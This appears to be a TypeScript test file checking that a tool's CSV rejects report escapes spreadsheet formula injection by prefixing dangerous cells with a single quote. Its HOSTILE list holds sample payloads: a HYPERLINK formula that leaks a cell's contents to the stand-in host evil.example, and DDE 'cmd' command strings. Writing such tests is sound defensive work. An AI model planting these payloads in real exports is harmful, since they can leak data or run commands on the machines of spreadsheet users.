/**
 * Issue 17, finding 11: the rejects report (writeIssuesCsv: the CLI's rejects.csv; the same COPY path
 * writes `guazheng screen`'s flags.csv) carries a rejected cell such as `=HYPERLINK(…)` as text.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { writeIssuesCsv } from '../../../dataImport/issues';
import { createTestDatabase, type TestDatabase } from '../../support/database';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"详情")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-1+cmd|x!A0', '\t=1'];

describe('the rejects report against formula injection', () => {
  let db: TestDatabase;
  let dir: string;
  let batchId: number;

  beforeAll(async () => {
    db = await createTestDatabase();
    dir = mkdtempSync(path.join(tmpdir(), 'gz-issues-formula-'));
    const b = await db.pool.query<{ id: string }>(
      `INSERT INTO import_batch (source, file_name, checksum, imported_by, status) VALUES ('registrations', '=evil.csv', 'x', 't', 'completed') RETURNING id`,
    );
    batchId = Number(b.rows[0].id);
    for (const [i, value] of [...HOSTILE, '-7'].entries()) {
      await db.pool.query(
        `INSERT INTO import_issue (batch_id, file, line, col, value, reason, severity) VALUES ($1, '=evil.csv', $2, '身份证号', $3, '身份证号格式错误', 'rejected')`,
        [batchId, i + 2, value],
      );
    }
  });
  afterAll(async () => {
    rmSync(dir, { recursive: true, force: true });
    await db.drop();
  });

  it('prefixes every would-be formula with a single quote and keeps line numbers and plain numbers', async () => {
    const out = path.join(dir, 'rejects.csv');
    expect(await writeIssuesCsv(db.pool, [batchId], out)).toBe(HOSTILE.length + 1);
    const rows: string[][] = parse(readFileSync(out, 'utf8'), { relax_column_count: false });
    expect(rows[0]).toEqual(['file', 'line', 'column', 'value', 'reason', 'severity']);
    const data = rows.slice(1);
    expect(data.map((r) => r[3])).toEqual([...HOSTILE.map((v) => `'${v}`), '-7']);
    expect(data.every((r) => r[0] === "'=evil.csv")).toBe(true);
    expect(data.map((r) => r[1])).toEqual(['2', '3', '4', '5', '6', '7']);
    for (const cell of data.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+$)/);
  });
});
